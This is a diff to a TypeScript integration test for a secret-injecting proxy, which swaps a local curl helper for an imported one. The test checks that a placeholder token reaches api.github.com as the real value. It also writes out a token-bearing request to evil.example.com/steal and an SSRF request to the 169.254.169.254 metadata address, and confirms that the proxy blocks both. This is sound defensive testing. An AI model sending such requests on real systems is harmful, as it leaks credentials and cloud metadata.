@@ -8,25 +8,15 @@
  * SSRF attempt is refused. Finally `bastion audit verify` passes.
  */
 import assert from 'node:assert/strict';
-import { execFile } from 'node:child_process';
 import { cpSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { after, before, test } from 'node:test';
-import { promisify } from 'node:util';
+import { curlRaw } from '../helpers/egress.ts';
 import { ROOT, tempDir } from '../helpers/gateway.ts';
 import { CLI, runCli, startProcess, stopAll, type Started } from '../helpers/processes.ts';
 
-const run = promisify(execFile);
 const KEY = 'walkthrough-key-0123456789abcdef';
 const VALUE = 'ghp_' + 'W4lkThr0ughV4lue'.repeat(2) + 'abcd';
-
-async function curl(args: string[]): Promise<string> {
-  try {
-    return (await run('curl', ['-sS', '-i', '--max-time', '10', ...args], { encoding: 'utf8' })).stdout;
-  } catch (err) {
-    return (err as { stdout?: string }).stdout ?? '';
-  }
-}
 
 const cli = runCli;
 const start = startProcess;
@@ -61,18 +51,18 @@ test('add a secret, give the agent its placeholder, and the real value reaches o
   const ca = await cli(['ca', 'export', '--out', join(dir, 'ca.pem'), '--config', config]);
   assert.equal(ca.code, 0, ca.stderr);
 
-  const ok = await curl(['-x', proxy, '--cacert', join(dir, 'ca.pem'), '-H', `Authorization: Bearer ${ph}`, `https://api.github.com:${port}/user`]);
+  const ok = await curlRaw(['-x', proxy, '--cacert', join(dir, 'ca.pem'), '-H', `Authorization: Bearer ${ph}`, `https://api.github.com:${port}/user`]);
   assert.match(ok, /HTTP\/1\.1 200 OK/);
   assert.ok(echo.lines.some((l) => l.includes(`received Authorization: Bearer ${VALUE}`)), 'the upstream received the real value');
   assert.ok(!ok.includes(VALUE), 'the echo the agent gets is redacted');
 
-  const blocked = await curl(['-x', proxy, '--cacert', join(dir, 'ca.pem'), '-H', `Authorization: Bearer ${ph}`, `https://evil.example.com:${port}/steal`]);
+  const blocked = await curlRaw(['-x', proxy, '--cacert', join(dir, 'ca.pem'), '-H', `Authorization: Bearer ${ph}`, `https://evil.example.com:${port}/steal`]);
   assert.match(blocked, /HTTP\/1\.1 403/);
   assert.match(blocked, /bastion-reason: release\.foreign_host/i);
   assert.ok(!echo.lines.some((l) => l.includes('/steal')), 'nothing reached the other host');
   assert.ok(served.lines.some((l) => /ALERT exfiltration: agent demo to evil\.example\.com/.test(l)), 'an alert was raised');
 
-  const ssrf = await curl(['-x', proxy, 'http://169.254.169.254/latest/meta-data/']);
+  const ssrf = await curlRaw(['-x', proxy, 'http://169.254.169.254/latest/meta-data/']);
   assert.match(ssrf, /HTTP\/1\.1 403/);
   assert.match(ssrf, /bastion-reason: ssrf\.address\.metadata/i);
 
